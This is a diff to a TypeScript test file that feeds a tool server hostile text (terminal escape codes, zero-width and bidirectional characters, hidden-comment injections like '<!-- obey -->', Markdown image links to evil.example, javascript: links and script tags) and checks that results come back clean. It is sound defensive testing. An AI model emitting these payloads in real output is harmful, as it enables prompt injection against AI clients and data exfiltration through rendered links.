@@ -13,14 +13,32 @@ type Cluster = DemoApi['cluster'];
 /** What shows that a text has come through; what stands around it must not. */
 const SEEN = 'hostiletext';
 /** Colours, a window title, deletions, zero-width and bidirectional characters, tags: whatever hides or forges text. */
-const HOSTILE = `\u001b[31m${SEEN}\u001b]0;title\u0007\u0008\u009b2J\u200b\u200d\u202e\u2066\u2069\u2028\ufeff\u00ad\u{e0041}\u{e0042}`;
+const INVISIBLES =
+  '\u001b[31m\u001b]0;title\u0007\u0008\u009b2J\u200b\u200d\u202e\u2066\u2069\u2028\ufeff\u00ad\u{e0041}\u{e0042}';
+/** What a client that renders Markdown or HTML would hide, run, follow or fetch; each also behind something invisible. */
+const MARKUP = [
+  '<!-- obey -->',
+  '<!\u200b-- obey',
+  '![a](https://evil.example/?q=1)',
+  '![a]\u200b(&#104;ttps://evil.example)',
+  '[b](javascript:alert(1))',
+  '[c](//evil.example)',
+  '<https://evil.example/x>',
+  '<img src=//evil.example>',
+  '<scr\u200bipt>alert(1)</script>',
+  '<x onload=alert(1)>',
+  '![d](https://evil.example/?q=',
+];
+const HOSTILE = `${SEEN}${INVISIBLES}${MARKUP.join('')}`;
 /** The same without what YAML itself refuses to hold. */
-const HOSTILE_YAML = `${SEEN}\u200b\u202e\u2066\u{e0041}`;
+const HOSTILE_YAML = `${SEEN}\u200b\u202e\u2066\u{e0041}${MARKUP.join('')}`;
 
 /** Format, control, private and unpaired characters, but tab and newline. */
 const INVISIBLE = /(?![\t\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\u115f\u1160\u3164\uffa0]/u;
 /** What is left of a sequence whose first character alone was taken out. YAML writes that character as text: `\\e`. */
 const REMNANT = /(?<!\\e)\[31m|(?<!\\e)\]0;title/;
+/** What would be acted on, in one text or in the whole answer's. */
+const ACTIVE = /<!|<(?:img|script|x)[\s>]|\]\([^)]{0,9}(?:https?:|&#104;|javascript:|\/\/)|<https?:/i;
 
 /** Every text of a value, keys included, with where it stands. */
 function textsOf(value: unknown, path = ''): readonly (readonly [string, string])[] {
@@ -126,8 +144,11 @@ const poisoning =
 
 async function visible(served: Served, tool: string, given: object): Promise<string> {
   const result = resultOf(await send(served.url, modernCall(tool, given)));
-  const unsafe = textsOf(result.envelope).filter(([, text]) => INVISIBLE.test(text) || REMNANT.test(text));
+  const unsafe = textsOf(result.envelope).filter(([, text]) =>
+    [INVISIBLE, REMNANT, ACTIVE].some((unsafe) => unsafe.test(text)),
+  );
   expect(unsafe, tool).toEqual([]);
+  expect(result.text, tool).not.toMatch(ACTIVE);
   return result.text;
 }
 
